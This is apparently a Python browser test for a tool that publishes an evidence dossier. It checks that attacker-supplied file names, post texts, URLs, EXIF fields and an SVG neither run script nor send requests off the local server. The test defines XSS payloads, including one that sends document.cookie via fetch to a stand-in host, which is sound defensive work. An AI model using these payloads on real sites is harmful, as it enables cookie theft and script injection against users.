"""A dossier of what an attacker sent, in a real browser: no script of theirs runs, and nothing leaves."""

from __future__ import annotations

import http.server
import threading
from collections.abc import Callable, Iterator
from functools import partial
from pathlib import Path
from typing import Any

import pytest
from PIL import Image
from tests.drawing import jpeg, photograph
from tests.e2e.conftest import Done

pytestmark = pytest.mark.browser

CHROMIUM = Path("/usr/bin/chromium")
HARM = "document.title='harmed';fetch('https://example.invalid/'+document.cookie)"
NAMES = (
    f"<img src=x onerror={HARM.replace('/', '')}>.jpg",
    "\"><script>document.title='harmed'<!--.jpg",
    "javascript:alert(1).jpg",
    "'+alert(1)+'.jpg",
    "\u202egpj.exe.jpg",
    "{{7*7}}${7*7}.jpg",
    "a&#x3c;script&#x3e;.jpg",
    "line\nbreak.jpg",
)
TEXTS = (
    f"<script>{HARM}</script>",
    f"</script><svg/onload={HARM}>",
    f'"><img src=https://example.invalid/a.png onerror="{HARM}">',
    "]]></title></style><link rel=stylesheet href=https://example.invalid/a.css><base href=https://example.invalid/>",
    f"<iframe srcdoc='<script>{HARM}</script>'></iframe><meta http-equiv=refresh content=0;url=https://example.invalid/>",
)
ADDRESSES = (
    f"javascript:{HARM}",
    "data:text/html,<script>document.title='harmed'</script>",
    "https://example.invalid/\" onmouseover=\"document.title='harmed'",
    "vbscript:harm",
    "https://example.invalid/<script>x</script>",
)
SVG = f"""<svg xmlns="http://www.w3.org/2000/svg" onload="{HARM}"><script>{HARM}</script>
<image href="https://example.invalid/a.png"/></svg>"""


@pytest.fixture(scope="module")
def sent(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("sent")
    picture = photograph(1)
    for number, name in enumerate(NAMES):
        (folder / name).write_bytes(jpeg(picture, 60 + number))
    exif = Image.Exif()
    exif[0x010E] = TEXTS[0]
    exif[0x013B] = TEXTS[2]
    Image.fromarray(photograph(2)).save(folder / "described.jpg", exif=exif)
    Image.fromarray(photograph(2)).save(folder / "again.jpg", quality=50)
    (folder / "drawing.svg").write_text(SVG)
    (folder / "page.html").write_text(
        f"<!doctype html><title>{TEXTS[1]}</title><body>{''.join(TEXTS)}<img src=described.jpg alt='{TEXTS[0]}'>{SVG}"
    )
    rows = ["post_id,platform,url,author,published,text,media"]
    for number, (text, address) in enumerate(zip(TEXTS, ADDRESSES, strict=True)):
        quoted = [f'"{field.replace(chr(34), chr(34) * 2)}"' for field in (address, text, text, "again.jpg")]
        rows.append(
            f"{1789551061324566528 + number},x,{quoted[0]},{quoted[1]},2024-05-12T06:59:55Z,{quoted[2]},{quoted[3]}"
        )
    (folder / "posts.csv").write_text("\n".join(rows))
    return folder


@pytest.fixture
def served(tmp_path: Path, sent: Path, firstseen: Callable[..., Done]) -> Iterator[tuple[str, Path]]:
    """The dossier as a web server gives it: a folder that everything of it lies in."""
    case, dossier = tmp_path / "case", tmp_path / "dossier"
    name = f"<script>{HARM}</script>"
    assert firstseen("new", case, "--event", name, "--place", TEXTS[2]).code == 0
    assert firstseen("add", case, sent).code == 1  # the drawing is refused
    assert firstseen("trace", case).code in (0, 1)
    assert firstseen("publish", case, dossier).code == 0
    handler = partial(http.server.SimpleHTTPRequestHandler, directory=str(dossier))
    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_port}", dossier
        server.shutdown()


def test_no_script_runs_and_no_request_leaves(served: tuple[str, Path]) -> None:
    if not CHROMIUM.exists():
        pytest.skip("chromium is not installed at /usr/bin/chromium")
    from playwright.sync_api import sync_playwright

    address, dossier = served
    asked: list[str] = []
    said: list[str] = []
    scripts: set[str] = set()
    pages = sorted(path.relative_to(dossier) for path in dossier.rglob("*.html"))
    assert len(pages) > 8
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=str(CHROMIUM), args=["--no-sandbox", "--disable-gpu"])
        page: Any = browser.new_page()
        page.on("request", lambda request: asked.append(request.url))
        page.on("dialog", lambda dialog: said.append(dialog.message))
        page.on("pageerror", lambda error: said.append(str(error)))
        page.on("popup", lambda popup: said.append("a window opened"))
        for name in pages:
            page.goto(f"{address}/{name.as_posix()}")
            page.evaluate("document.querySelectorAll('details').forEach((one) => { one.open = true; })")
            page.evaluate("for (const one of document.images) one.loading = 'eager'")
            page.wait_for_timeout(50)
            assert page.title() != "harmed", name
            assert not page.title().startswith("harmed"), name
            scripts.update(page.evaluate("[...document.scripts].map((one) => one.src || one.textContent)"))
            assert page.locator("iframe, object, embed, base, meta[http-equiv=refresh], svg script").count() == 0, name
            links = page.evaluate("[...document.querySelectorAll('[href], [src]')].map((one) => one.href || one.src)")
            schemes = {str(link).partition(":")[0] for link in links if isinstance(link, str) and link}
            assert schemes <= {"http", "https", "data"}, (name, schemes)
            data = [link for link in links if isinstance(link, str) and link.startswith("data:")]
            assert all(link.startswith(("data:image/webp;", "data:,")) for link in data), name
            handlers = page.evaluate(
                "[...document.querySelectorAll('*')].flatMap((one) => one.getAttributeNames())"
                ".filter((name) => name.startsWith('on'))"
            )
            assert handlers == [], name
        browser.close()
    assert said == []
    assert len(scripts) == 1, "every page has the one script of the dossier and no other"
    assert "harmed" not in scripts.pop()
    outside = [url for url in asked if not url.startswith((f"{address}/", "data:image/webp;", "data:,"))]
    assert outside == []
    assert not list(dossier.rglob("*.svg"))
    text = "".join(path.read_text() for path in dossier.rglob("*.html"))
    assert "&lt;script&gt;" in text, "the words are shown as they were written"
